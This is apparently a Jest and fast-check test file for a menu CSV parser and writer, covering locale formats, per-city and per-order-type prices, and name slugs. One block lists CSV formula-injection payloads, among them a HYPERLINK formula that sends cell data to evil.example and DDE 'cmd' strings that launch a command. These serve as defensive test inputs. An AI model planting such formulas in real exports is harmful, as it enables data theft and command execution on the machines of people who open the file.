import { describe, expect, it } from "@jest/globals";
import fc from "fast-check";
import { csvText, keyOfName, readMenuCsv } from "./menu-csv";

const rowOf = (text: string) => {
  const { products, faults } = readMenuCsv("menu.csv", text, "de");
  expect(faults).toEqual([]);
  return products[0];
};

describe("a menu as a spreadsheet", () => {
  it.each([
    ["semicolons and a decimal comma", "group;name;description;picture;price\nsuppe;Brühe;Klar;/b.avif;4,50"],
    ["commas and a decimal point", "group,name,description,picture,price\nsuppe,Brühe,Klar,/b.avif,4.50"],
    [
      "tabs, a mark at the beginning and empty lines",
      "\uFEFFGroup\tName\tDescription\tPicture\tPrice\r\n\r\nsuppe\tBrühe\tKlar\t/b.avif\t4,5\r\n",
    ],
  ])("is read with %s", (_, text) => {
    expect(rowOf(text)).toMatchObject({
      group: "suppe",
      product: { key: "bruhe", name: "Brühe", description: "Klar", price: 4.5 },
    });
  });

  it("has prices by city, texts by language, and figures as people write them", () => {
    const header =
      "group;key;name;name:en;description;picture;price;old_price;price:porto;old_price:porto;weight;proteins;fats;carbohydrates;calories;allergens;vegetarian;modifiers";
    const row = 'suppe;bruehe;"Brühe; klar";Broth;Klar;/b.avif;1 234,50;;3;4;0,33 l;1,5;2;3;40;none;yes;salz pfeffer';
    expect(rowOf(`${header}\n${row}`)?.product).toMatchObject({
      name: { de: "Brühe; klar", en: "Broth" },
      price: 1234.5,
      old_price: null,
      prices: { porto: { price: 3, old_price: 4 } },
      weight: { value: 330, unit: "ml" },
      nutrition: { proteins: 1.5, fats: 2, carbohydrates: 3, calories: 40 },
      allergens: [],
      vegetarian: true,
      modifiers: ["salz", "pfeffer"],
    });
  });

  it("has prices by order type, and products that are sold one way alone", () => {
    const header =
      "group;name;description;picture;price;price:takeaway;old_price:takeaway;price:porto:delivery;order_types";
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;4,50;5;6;`)?.product).toMatchObject({
      price: 5,
      prices: {},
      order_types: {
        takeaway: { price: 4.5, old_price: 5, prices: {} },
        delivery: { price: null, prices: { porto: { price: 6 } } },
      },
    });
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;;;;takeaway`)?.product.order_types).toEqual({ delivery: null });
    expect(rowOf(`${header}\nsuppe;Brühe;Klar;/b.avif;5;;;;delivery takeaway`)?.product.order_types).toEqual({});
  });

  it("says nothing of what nobody has written", () => {
    const text = "group;name;description;picture;price;allergens;vegetarian\nsuppe;Brühe;Klar;/b.avif;1;;";
    expect(rowOf(text)?.product).toMatchObject({ allergens: null, vegetarian: null, nutrition: null });
  });

  it("may begin the words of the format with a capital letter, as spreadsheets do", () => {
    const text =
      "group;name;description;picture;price;allergens;vegetarian;order_types;accent\nsuppe;Brühe;Klar;/b.avif;1;Celery, Milk;Yes;Takeaway;New";
    expect(rowOf(text)?.product).toMatchObject({
      allergens: ["celery", "milk"],
      vegetarian: true,
      order_types: { delivery: null },
      accent: "new",
    });
    expect(rowOf(text.replace("Celery, Milk", "None"))?.product.allergens).toEqual([]);
  });

  it("names the column of a price for one city or order type that is no number", () => {
    const text =
      "group;name;description;picture;price;price:porto;price:takeaway;calories\nsuppe;Brühe;Klar;/b.avif;1;ask;1 €;many";
    expect(readMenuCsv("menu.csv", text, "de").faults.map(({ problem }) => problem)).toEqual([
      "price:porto: is not understood: ask",
      "price:takeaway: is not understood: 1 €",
      "calories: is not understood: many",
    ]);
  });

  it("is told of by the line of the file, whatever stands in cells", () => {
    const text = 'group;name;description;picture;price\nsuppe;A;"two\nlines";/a.avif;1\nsuppe;B;x;/b.avif;-2';
    expect(readMenuCsv("menu.csv", text, "de").faults).toMatchObject([{ line: 4 }]);
  });

  /** https://owasp.org/www-community/attacks/CSV_Injection and https://book.hacktricks.xyz/pentesting-web/formula-csv-doc-latex-ghostscript-injection */
  const formulas = [
    "=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-B2",
    "+$A$1*2",
    "-SUM(A1:A9)",
    "-1-1",
    "=IMPORTXML(CONCAT(A1),B1)",
    "＝1+1",
    "＠SUM(1)",
  ];
  const csvOf = (description: string): string =>
    `group;name;description;picture;price\nsuppe;A;${description};/a.avif;1`;
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;

  it.each(formulas)("does not take the formula %s for a text, unless an apostrophe says so", (text) => {
    expect(readMenuCsv("menu.csv", csvOf(quoted(text)), "de").faults).toMatchObject([{ line: 2 }]);
    expect(rowOf(csvOf(quoted(`'${text}`)))?.product.description).toBe(text);
  });

  it.each(["-50 % on Mondays", "+ Käse", "- Cola (0,5 l)", "-18", "+1", "— mit Dill", "'s Gravenhage", "a=b"])(
    "takes the words %s for what they are",
    (text) => expect(rowOf(csvOf(text))?.product.description).toBe(text),
  );

  it("is written so that no spreadsheet reckons, and read back as it was", () => {
    const sign = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "\t",
      "\r",
      "'",
      "＝",
      "＋",
      "－",
      "＠",
      ";",
      '"',
      "\n",
      " ",
      "1",
      "x",
      "|",
      "!",
    );
    const written = (text: string) =>
      csvText(
        ["group", "name", "description", "picture", "price"],
        [{ group: "suppe", name: "A", description: text, picture: "/a.avif", price: "-1" }],
      );
    fc.assert(
      fc.property(
        fc.string({ unit: fc.oneof(sign, fc.string({ minLength: 1, maxLength: 1 })), minLength: 1, maxLength: 12 }),
        (text) => {
          const [cell = ""] = /(?<=suppe;A;)(?:"(?:[^"]|"")*"|[^;]*)/.exec(written(text)) ?? [];
          const shown = cell.replace(/^"/, "");
          const isNumber = /^[+-][\d.,]+$/.test(text);
          const isInert = isNumber || !/^[=+\-@\t\r＝＋－＠]/.test(shown);
          const { products } = readMenuCsv("menu.csv", written(text).replace(";-1\n", ";1\n"), "de");
          return isInert && products[0]?.product.description === text;
        },
      ),
      { numRuns: 1_000 },
    );
    expect(written("x")).toContain(";-1\n");
  });

  it("makes keys of names", () => {
    const names = ["Tacos al Pastor", "  Café-Crème! ", "Пельмени", "Щедрий борщ", "Straße", "Ispanaklı", "O‘zbek osh"];
    expect(names.map(keyOfName)).toEqual([
      "tacos-al-pastor",
      "cafe-creme",
      "pelmeni",
      "shchedrii-borshch",
      "strasse",
      "ispanakli",
      "ozbek-osh",
    ]);
  });
});
